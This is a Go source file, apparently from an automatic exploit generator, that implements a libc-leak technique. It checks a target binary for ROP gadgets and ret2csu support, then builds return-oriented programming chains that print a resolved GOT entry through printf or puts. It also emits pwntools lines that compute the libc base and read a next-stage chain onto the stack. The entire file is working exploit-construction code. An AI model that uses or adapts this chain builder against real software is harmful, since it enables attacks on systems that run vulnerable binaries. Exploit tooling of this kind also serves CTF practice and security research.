package technique

import (
	"fmt"

	"gitlab.com/stephen-fox/expgen/ropkit"
)

const (
	gotLeakLibcFmtStr       = "got_leak_libc_fmt_str"
	gotLeakLibcFmtStrOffset = 0x600
	nextStageReadSize       = 0x400
)

// GotLeakLibc leaks the libc base by printing the GOT entry of an
// already resolved function, then reads the next stage of the chain
// right after itself.
type GotLeakLibc struct {
	ctx *Context
}

func (o *GotLeakLibc) Name() string {
	return GotLeakLibcName
}

func (o *GotLeakLibc) CheckRequirements() bool {
	elf := o.ctx.Elf

	if o.ctx.Libc == nil || !elf.HasSymbol("read") {
		return false
	}

	if !o.ctx.Resolver.Has(elf, "pop rdi ; ret") || !o.ctx.ret2csu().CheckRequirements() {
		return false
	}

	_, hasPrintf := elf.PLT["printf"]
	_, hasPuts := elf.PLT["puts"]
	if !hasPrintf && !hasPuts {
		return false
	}

	_, err := o.leakTarget()
	return err == nil
}

// leakTarget returns the first PLT entry whose GOT entry is expected
// to be resolved when the chain runs.
func (o *GotLeakLibc) leakTarget() (string, error) {
	for _, entry := range o.ctx.Elf.PLTEntries() {
		// __stack_chk_fail is never called on a path that reaches
		// the exploitable state.
		if entry.Name == "__stack_chk_fail" {
			continue
		}

		if !o.ctx.Libc.HasSymbol(entry.Name) {
			continue
		}

		return entry.Name, nil
	}

	return "", fmt.Errorf("no plt entry of %s can leak the libc base", o.ctx.Elf.Name)
}

func (o *GotLeakLibc) RopSubchains() ([]ropkit.Subchain, error) {
	target, err := o.leakTarget()
	if err != nil {
		return nil, err
	}

	var subchains []ropkit.Subchain
	if _, hasPrintf := o.ctx.Elf.PLT["printf"]; hasPrintf {
		subchains, err = o.printfSubchains(target)
	} else {
		subchains, err = o.putsSubchains(target)
	}
	if err != nil {
		return nil, err
	}

	targetOffset, _ := o.ctx.Libc.Symbol(target)
	baseVar := o.ctx.Libc.BaseVar()

	return append(subchains, ropkit.Subchain{
		ropkit.Snippet{Lines: []string{
			"libc_leak = u64(proc.recv(6).ljust(8, b'\\x00'))",
			fmt.Sprintf("%s = libc_leak - 0x%x", baseVar, targetOffset),
			fmt.Sprintf("log.info('leaked %s: {}'.format(hex(%s)))", baseVar, baseVar),
		}},
	}), nil
}

func (o *GotLeakLibc) ExtraRopSubchain() ropkit.Subchain {
	return nil
}

// printfSubchains writes "%s\n" to the .bss and prints the GOT entry
// of target with it.
func (o *GotLeakLibc) printfSubchains(target string) ([]ropkit.Subchain, error) {
	elf := o.ctx.Elf
	csu := o.ctx.ret2csu()

	fmtStr := []byte("%s\n\x00")
	fmtStrVar := o.ctx.variable(elf, gotLeakLibcFmtStr, elf.BSS()+gotLeakLibcFmtStrOffset)

	read, err := ropkit.Sym(elf, "read")
	if err != nil {
		return nil, err
	}

	printf, err := ropkit.Sym(elf, "printf")
	if err != nil {
		return nil, err
	}

	targetGot, err := ropkit.Got(elf, target)
	if err != nil {
		return nil, err
	}

	popRdi, err := o.ctx.gadget(elf, "pop rdi ; ret")
	if err != nil {
		return nil, err
	}

	// read(0, fmt_str, 4)
	part1, err := csu.Chain(read, ropkit.Const(0), fmtStrVar, ropkit.Const(len(fmtStr)))
	if err != nil {
		return nil, err
	}

	// read(1, 0, 0) sets RAX to 0 and EDI to 1.
	part2, err := csu.Chain(read, ropkit.Const(1), ropkit.Const(0), ropkit.Const(0))
	if err != nil {
		return nil, err
	}

	// Sets RSI to the GOT entry, returning to "pop rdi ; ret".
	part3, err := csu.Chain(popRdi, ropkit.Const(0), targetGot, ropkit.Const(0))
	if err != nil {
		return nil, err
	}

	part4 := ropkit.Subchain{fmtStrVar, printf}

	nextStageOffset := 8 * uint64(len(part1)+len(part2)+len(part3)+len(part4)+csu.EstimateSize(0))

	part5, err := o.readNextStage(read, nextStageOffset)
	if err != nil {
		return nil, err
	}

	return []ropkit.Subchain{
		concat(ropkit.Subchain{ropkit.Const(0)}, part1, part2, part3, part4, part5),
		{ropkit.ByteVector(fmtStr)},
	}, nil
}

// putsSubchains prints the GOT entry of target with puts.
func (o *GotLeakLibc) putsSubchains(target string) ([]ropkit.Subchain, error) {
	elf := o.ctx.Elf
	csu := o.ctx.ret2csu()

	read, err := ropkit.Sym(elf, "read")
	if err != nil {
		return nil, err
	}

	puts, err := ropkit.Sym(elf, "puts")
	if err != nil {
		return nil, err
	}

	targetGot, err := ropkit.Got(elf, target)
	if err != nil {
		return nil, err
	}

	popRdi, err := o.ctx.gadget(elf, "pop rdi ; ret")
	if err != nil {
		return nil, err
	}

	part1 := ropkit.Subchain{popRdi, targetGot, puts}

	nextStageOffset := 8 * uint64(len(part1)+csu.EstimateSize(0))

	part2, err := o.readNextStage(read, nextStageOffset)
	if err != nil {
		return nil, err
	}

	return []ropkit.Subchain{
		concat(ropkit.Subchain{ropkit.Const(0)}, part1, part2),
	}, nil
}

// readNextStage reads 0x400 bytes to the location that follows the
// current chain, which is offset bytes after its start.
func (o *GotLeakLibc) readNextStage(read ropkit.Expr, offset uint64) (ropkit.Subchain, error) {
	return o.ctx.ret2csu().Chain(
		read,
		ropkit.Const(0),
		ropkit.Placeholder{Tag: ropkit.ChainOffsetTag, Offset: offset},
		ropkit.Const(nextStageReadSize))
}
